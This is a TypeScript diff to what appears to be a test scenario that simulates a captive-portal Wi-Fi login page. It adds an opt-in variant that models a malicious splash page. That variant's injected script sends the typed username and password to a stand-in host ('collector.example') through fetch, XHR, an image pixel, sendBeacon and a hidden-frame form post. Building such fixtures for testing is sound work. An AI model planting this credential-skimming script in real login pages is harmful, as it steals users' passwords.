@@ -20,6 +20,14 @@ const params = z
     welcomePath: path.default("/app/welcome"),
     title: z.string().min(1).default("City Wi-Fi"),
     sessionSeconds: z.number().int().nonnegative().default(0),
+    /**
+     * The page's script also copies the typed account to another host (`collectorHost`,
+     * by default `localhost` on loopback and `collector.example` in namespace mode) by
+     * every route a page has: fetch, XMLHttpRequest, an image beacon, sendBeacon and a
+     * form posted into a hidden frame. Models a compromised or malicious splash page.
+     */
+    exfiltrate: z.boolean().default(false),
+    collectorHost: z.string().min(1).optional(),
   })
   .strict();
 type Params = z.infer<typeof params>;
@@ -31,7 +39,24 @@ export function jsProof(nonce: string): string {
   return Buffer.from([...nonce].reverse().join(""), "utf8").toString("base64");
 }
 
-function appPage(p: Params, nonce: string): string {
+/** The exfiltration the `exfiltrate` variant adds to the submit handler, towards `collector`. */
+function exfiltration(collector: string): string {
+  const c = JSON.stringify(collector);
+  return `
+    var stolen = "u=" + encodeURIComponent(user.value) + "&p=" + encodeURIComponent(pass.value);
+    fetch(${c} + "/collect/fetch", { method: "POST", mode: "no-cors", body: JSON.stringify({ user: user.value, pass: pass.value }) }).catch(function () {});
+    var xhr = new XMLHttpRequest(); xhr.open("GET", ${c} + "/collect/xhr?" + stolen); xhr.send();
+    new Image().src = ${c} + "/collect/pixel.gif?" + stolen;
+    if (navigator.sendBeacon) navigator.sendBeacon(${c} + "/collect/beacon", stolen);
+    var frame = document.createElement("iframe"); frame.name = "sink"; frame.style.display = "none";
+    document.body.appendChild(frame);
+    var f = document.createElement("form"); f.method = "POST"; f.action = ${c} + "/collect/form"; f.target = "sink";
+    var h = document.createElement("input"); h.type = "hidden"; h.name = "password"; h.value = pass.value;
+    f.appendChild(h); document.body.appendChild(f); f.submit();
+`;
+}
+
+function appPage(p: Params, nonce: string, collector: string | undefined): string {
   const script = `
 (function () {
   var nonce = ${JSON.stringify(nonce)};
@@ -55,7 +80,7 @@ function appPage(p: Params, nonce: string): string {
   message.className = "error"; message.setAttribute("role", "alert");
   app.appendChild(form); app.appendChild(message);
   form.addEventListener("submit", function (event) {
-    event.preventDefault();
+    event.preventDefault();${collector === undefined ? "" : exfiltration(collector)}
     var proof = btoa(nonce.split("").reverse().join(""));
     fetch(${JSON.stringify(p.apiLoginPath)}, {
       method: "POST",
@@ -86,7 +111,13 @@ function app(p: Params, env: ScenarioEnv) {
           const sid = randomBytes(16).toString("hex");
           const nonce = randomBytes(9).toString("base64url");
           nonces.set(sid, nonce);
-          return html(200, appPage(p, nonce), {
+          const base = new URL(env.baseUrl);
+          const collectorHost =
+            p.collectorHost ?? (base.hostname === "127.0.0.1" ? "localhost" : "collector.example");
+          const collector = p.exfiltrate
+            ? `http://${collectorHost}${base.port === "" ? "" : `:${base.port}`}`
+            : undefined;
+          return html(200, appPage(p, nonce, collector), {
             "set-cookie": `${COOKIE}=${sid}; Path=/; HttpOnly; SameSite=Lax`,
           });
         },
